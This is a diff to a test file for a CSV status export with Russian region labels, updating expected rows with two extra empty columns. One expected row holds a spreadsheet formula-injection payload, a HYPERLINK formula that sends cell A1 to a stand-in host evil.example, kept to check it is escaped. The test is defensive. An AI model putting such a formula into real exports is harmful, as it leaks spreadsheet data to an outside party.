@@ -72,10 +72,10 @@ describe('CSV', () => {
     const csv = statusCsv(statusRows(status(), registry, STATE_LABELS));
     const lines = csv.slice(1).trimEnd().split('\r\n');
     expect(lines[0]).toBe(STATUS_HEADERS.join(';'));
-    expect(lines[1]).toBe('smolensk;Город Смоленск;просрочено;3;0;;10.07.2023');
-    expect(lines[2]).toBe('vyazma;"Вяземский район; «центр»";принято;1;2;05.07.2023 14:03;10.07.2023');
+    expect(lines[1]).toBe('smolensk;Город Смоленск;просрочено;3;0;;10.07.2023;;');
+    expect(lines[2]).toBe('vyazma;"Вяземский район; «центр»";принято;1;2;05.07.2023 14:03;10.07.2023;;');
     expect(lines[3]).toBe(
-      `evil;"'=HYPERLINK(""http://evil.example/?""&A1,""нажмите"")";отклонено;0;1;;20.07.2023`,
+      `evil;"'=HYPERLINK(""http://evil.example/?""&A1,""нажмите"")";отклонено;0;1;;20.07.2023;;`,
     );
     expect(Buffer.from(csv, 'utf8').subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
   });
